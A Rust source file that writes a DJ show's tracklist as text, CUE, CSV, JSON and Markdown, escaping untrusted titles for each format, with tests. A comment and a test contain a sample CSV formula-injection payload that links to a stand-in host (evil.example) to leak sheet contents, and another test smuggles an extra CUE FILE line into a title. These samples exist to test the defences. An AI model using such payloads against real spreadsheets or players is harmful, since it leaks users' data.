//! The tracklist written out, one function per format. Every text from SoundCloud or the DJ is
//! made one line first (no control characters), then escaped for its format: CSV quoting (by
//! the `csv` crate), CUE's double-quoted strings, Markdown's backslash escapes and table pipes.

use std::fmt::Write;
use std::time::Duration;

use serde::Serialize;

use super::{Tracklist, TracklistError};
use crate::line::AnnounceLine;

/// CUE frames per second (CD audio sectors).
const CUE_FRAMES: u128 = 75;
const CUE_MAX_TRACKS: usize = 99;

fn one_line(s: &str) -> String {
    AnnounceLine::sanitize(s).as_str().to_owned()
}

/// `00:00 Artist - Title`, one line per track.
pub fn text(list: &Tracklist) -> String {
    let mut out = String::new();
    for e in &list.entries {
        let _ = writeln!(out, "{} {}", e.clock(), e.label());
    }
    out
}

/// A CUE string: CUE has no escape for `"` inside a quoted value, so a double quote becomes a
/// single one rather than ending the value early.
fn cue_quote(s: &str) -> String {
    format!("\"{}\"", one_line(s).replace('"', "'"))
}

/// `mm:ss:ff` with ff in 1/75 s; minutes go past 99 for long recordings.
fn cue_index(offset: Duration) -> String {
    let ms = offset.as_millis();
    let frames = ms % 1000 * CUE_FRAMES / 1000;
    format!("{:02}:{:02}:{:02}", ms / 60_000, ms / 1000 % 60, frames)
}

pub fn cue(list: &Tracklist) -> Result<String, TracklistError> {
    if list.entries.len() > CUE_MAX_TRACKS {
        return Err(TracklistError::TooManyForCue(list.entries.len()));
    }
    let mut out = String::new();
    let _ = writeln!(out, "TITLE {}", cue_quote(&list.title));
    let _ = writeln!(
        out,
        "FILE {} MP3",
        cue_quote(&format!("show-{}.mp3", list.show_id))
    );
    for (i, e) in list.entries.iter().enumerate() {
        let _ = writeln!(out, "  TRACK {:02} AUDIO", i + 1);
        let _ = writeln!(out, "    TITLE {}", cue_quote(&e.title));
        let _ = writeln!(out, "    PERFORMER {}", cue_quote(&e.artist));
        if !e.url.is_empty() {
            let _ = writeln!(out, "    REM URL {}", cue_quote(&e.url));
        }
        let _ = writeln!(out, "    INDEX 01 {}", cue_index(e.offset));
    }
    Ok(out)
}

/// One row of the CSV and JSON forms.
#[derive(Serialize, utoipa::ToSchema)]
#[schema(as = TracklistRow)]
pub struct Row {
    position: u32,
    title: String,
    artist: String,
    url: String,
    #[schema(value_type = String, format = DateTime)]
    announced_at: jiff::Timestamp,
    /// Whole seconds from the recording's start.
    offset_seconds: u64,
}

fn rows(list: &Tracklist) -> impl Iterator<Item = Row> + '_ {
    list.entries.iter().map(|e| Row {
        position: e.position,
        title: one_line(&e.title),
        artist: one_line(&e.artist),
        url: one_line(&e.url),
        announced_at: e.announced_at,
        offset_seconds: e.offset.as_secs(),
    })
}

/// `position,title,artist,url,announced_at,offset_seconds`, header first (even when empty).
pub fn csv(list: &Tracklist) -> Result<String, TracklistError> {
    let csv_err = |e: csv::Error| TracklistError::Csv(e.to_string());
    let mut w = csv::WriterBuilder::new()
        .has_headers(false)
        .from_writer(Vec::new());
    w.write_record([
        "position",
        "title",
        "artist",
        "url",
        "announced_at",
        "offset_seconds",
    ])
    .map_err(csv_err)?;
    for mut row in rows(list) {
        for cell in [&mut row.title, &mut row.artist, &mut row.url] {
            defuse_formula(cell);
        }
        w.serialize(row).map_err(csv_err)?;
    }
    let bytes = w
        .into_inner()
        .map_err(|e| TracklistError::Csv(e.to_string()))?;
    String::from_utf8(bytes).map_err(|e| TracklistError::Csv(e.to_string()))
}

/// A spreadsheet opening the CSV runs a cell that begins with `=`, `+`, `-` or `@` (or a tab or
/// CR before one) as a formula: a title like `=HYPERLINK("http://evil.example/?x="&A1,"click")`
/// would become a link that leaks the sheet. A leading `'` makes it text (OWASP's advice).
fn defuse_formula(cell: &mut String) {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        cell.insert(0, '\'');
    }
}

pub fn json(list: &Tracklist) -> Result<String, TracklistError> {
    Ok(serde_json::to_string(&rows(list).collect::<Vec<_>>())?)
}

/// Markdown text that shows as written: every ASCII punctuation mark that Markdown (or a GFM
/// table, for `|`) could read as syntax is backslash-escaped, which CommonMark allows for any
/// of them.
fn md_text(s: &str) -> String {
    let mut out = String::new();
    for c in one_line(s).chars() {
        if matches!(
            c,
            '\\' | '`'
                | '*'
                | '_'
                | '['
                | ']'
                | '<'
                | '>'
                | '|'
                | '~'
                | '#'
                | '!'
                | '&'
                | '('
                | ')'
                | '{'
                | '}'
        ) {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// A link destination with the characters that would end it (or the table cell) encoded.
fn md_url(s: &str) -> String {
    let mut out = String::new();
    for c in one_line(s).chars() {
        match c {
            ' ' | '(' | ')' | '<' | '>' | '|' | '\\' | '`' | '"' => {
                let _ = write!(out, "%{:02X}", c as u32);
            }
            c => out.push(c),
        }
    }
    out
}

/// A table: position, time, linked title, artist.
pub fn markdown(list: &Tracklist) -> String {
    let mut out = String::from("| # | Time | Title | Artist |\n|--:|--:|:--|:--|\n");
    for e in &list.entries {
        let title = if e.url.is_empty() {
            md_text(&e.title)
        } else {
            format!("[{}]({})", md_text(&e.title), md_url(&e.url))
        };
        let _ = writeln!(
            out,
            "| {} | {} | {} | {} |",
            e.position,
            e.clock(),
            title,
            md_text(&e.artist)
        );
    }
    out
}

#[cfg(test)]
mod tests {
    use super::super::Entry;
    use super::*;

    fn list(title: &str, artist: &str, url: &str, offset_ms: u64) -> Tracklist {
        Tracklist {
            show_id: 7,
            title: "Show of 2026-03-11".into(),
            entries: vec![Entry {
                position: 3,
                title: title.into(),
                artist: artist.into(),
                url: url.into(),
                announced_at: "2026-03-12T03:00:00Z".parse().expect("time"),
                offset: Duration::from_millis(offset_ms),
            }],
        }
    }

    #[test]
    fn clocks() {
        let at = |ms| list("t", "a", "", ms).entries[0].clock();
        assert_eq!(at(59_999), "00:59");
        assert_eq!(at(3_599_000), "59:59");
        assert_eq!(at(3_662_000), "1:01:02");
        assert_eq!(cue_index(Duration::from_millis(61_500)), "01:01:37");
        assert_eq!(cue_index(Duration::from_secs(125 * 60)), "125:00:00");
    }

    #[test]
    fn text_is_one_line_per_track() {
        let l = list("Ti\r\ntle", "Ar\0tist", "", 61_000);
        assert_eq!(text(&l), "01:01 Artist - Title\n");
        assert_eq!(text(&list("Solo", "", "", 0)), "00:00 Solo\n");
    }

    #[test]
    fn cue_quotes_cannot_be_broken_out_of() {
        let l = list("Say \"hi\"\nFILE \"x\" WAVE", "A", "https://x.test/a", 0);
        let cue = cue(&l).expect("cue");
        assert!(
            cue.contains("    TITLE \"Say 'hi'FILE 'x' WAVE\"\n"),
            "{cue}"
        );
        assert_eq!(cue.matches("FILE ").count(), 2, "only the header FILE line");
        assert_eq!(cue.lines().filter(|l| l.starts_with("FILE")).count(), 1);
    }

    #[test]
    fn csv_quotes_commas_and_quotes() {
        let csv = csv(&list("a, \"b\"", "c", "https://x.test/?a=1,2", 1_500)).expect("csv");
        assert_eq!(
            csv,
            "position,title,artist,url,announced_at,offset_seconds\n\
             3,\"a, \"\"b\"\"\",c,\"https://x.test/?a=1,2\",2026-03-12T03:00:00Z,1\n"
        );
    }

    #[test]
    fn csv_cells_cannot_be_formulas() {
        let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
        let sheet = csv(&list(evil, "@SUM(1)", "https://x.test/", 0)).expect("csv");
        let row = sheet.lines().nth(1).expect("row");
        assert!(
            row.starts_with(
                "3,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'@SUM(1),"
            ),
            "{row}"
        );
        for lead in ["+1", "-1", "=1"] {
            let sheet = csv(&list("t", lead, "", 0)).expect("csv");
            assert!(sheet.contains(&format!(",'{lead},")), "{sheet}");
        }
        let json = json(&list(evil, "a", "", 0)).expect("json");
        assert!(
            json.contains("\"title\":\"=HYPERLINK"),
            "JSON keeps the title: {json}"
        );
    }

    #[test]
    fn markdown_cells_stay_cells() {
        let md = markdown(&list("a|b *c*", "[x](y)", "https://x.test/a b)|", 0));
        let row = md.lines().nth(2).expect("row");
        assert_eq!(
            row,
            "| 3 | 00:00 | [a\\|b \\*c\\*](https://x.test/a%20b%29%7C) | \\[x\\]\\(y\\) |"
        );
        assert_eq!(row.matches(" | ").count(), 3, "four cells: {row}");
    }

    proptest::proptest! {
        /// Whatever a title, artist or URL holds, the CSV reads back as one row of six cells,
        /// each the one-line text (with `'` before a would-be formula), and no cell a formula.
        #[test]
        fn csv_round_trips_any_text(
            title in "\\PC{0,40}",
            artist in "[=+@\\-\t\r,\"a-z ]{0,12}",
            url in "\\PC{0,20}",
        ) {
            let sheet = csv(&list(&title, &artist, &url, 61_000)).expect("csv");
            let mut reader = ::csv::Reader::from_reader(sheet.as_bytes());
            let rows: Vec<::csv::StringRecord> =
                reader.records().collect::<Result<_, _>>().expect("parses");
            proptest::prop_assert_eq!(rows.len(), 1);
            let row = &rows[0];
            proptest::prop_assert_eq!(row.len(), 6);
            for (cell, written) in [(&row[1], &title), (&row[2], &artist), (&row[3], &url)] {
                let mut expected = one_line(written);
                defuse_formula(&mut expected);
                proptest::prop_assert_eq!(cell, expected.as_str());
                proptest::prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']));
            }
            proptest::prop_assert_eq!(&row[5], "61");
        }

        /// The JSON form reads back as one object per entry, in order, each holding the
        /// entry's position, one-line texts, time and whole seconds.
        #[test]
        fn json_round_trips_any_entries(
            entries in proptest::collection::vec(
                (
                    proptest::prelude::any::<u32>(),
                    ("\\PC{0,30}", "[\\x00-\\x1f\"\\\\a-z ]{0,12}", "\\PC{0,20}"),
                    0..4_102_444_800i64,
                    proptest::prelude::any::<u64>(),
                ),
                0..5,
            ),
        ) {
            let mut tracklist = list("t", "a", "", 0);
            tracklist.entries = entries
                .iter()
                .map(|(position, (title, artist, url), at, offset_ms)| Entry {
                    position: *position,
                    title: title.clone(),
                    artist: artist.clone(),
                    url: url.clone(),
                    announced_at: jiff::Timestamp::from_second(*at).expect("in range"),
                    offset: Duration::from_millis(*offset_ms),
                })
                .collect();
            let text = json(&tracklist).expect("json");
            let rows: Vec<serde_json::Value> = serde_json::from_str(&text).expect("parses");
            proptest::prop_assert_eq!(rows.len(), tracklist.entries.len());
            for (row, e) in rows.iter().zip(&tracklist.entries) {
                let at: jiff::Timestamp =
                    row["announced_at"].as_str().and_then(|t| t.parse().ok()).expect("a time");
                proptest::prop_assert_eq!(at, e.announced_at);
                proptest::prop_assert_eq!(
                    row,
                    &serde_json::json!({
                        "position": e.position,
                        "title": one_line(&e.title),
                        "artist": one_line(&e.artist),
                        "url": one_line(&e.url),
                        "announced_at": row["announced_at"],
                        "offset_seconds": e.offset.as_secs(),
                    })
                );
            }
        }
    }
}
